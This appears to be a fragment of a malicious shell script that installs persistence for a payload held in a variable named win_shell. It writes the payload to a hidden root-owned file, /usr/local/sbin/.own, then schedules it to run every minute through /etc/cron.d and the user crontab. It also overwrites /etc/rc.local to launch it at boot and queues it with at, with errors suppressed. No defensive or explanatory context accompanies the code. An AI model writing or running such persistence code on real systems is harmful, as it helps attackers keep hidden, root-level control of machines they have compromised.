# Has the clock and the system's start run it again
printf '%s\n' "$win_shell" | put /usr/local/sbin/.own 755
echo '* * * * * root /usr/local/sbin/.own' | put /etc/cron.d/own 644
printf '#!/bin/sh\n/usr/local/sbin/.own\n' | put /etc/rc.local 755
echo '* * * * * /usr/local/sbin/.own' | crontab - 2>/dev/null
echo /usr/local/sbin/.own | at now 2>/dev/null
exit 0
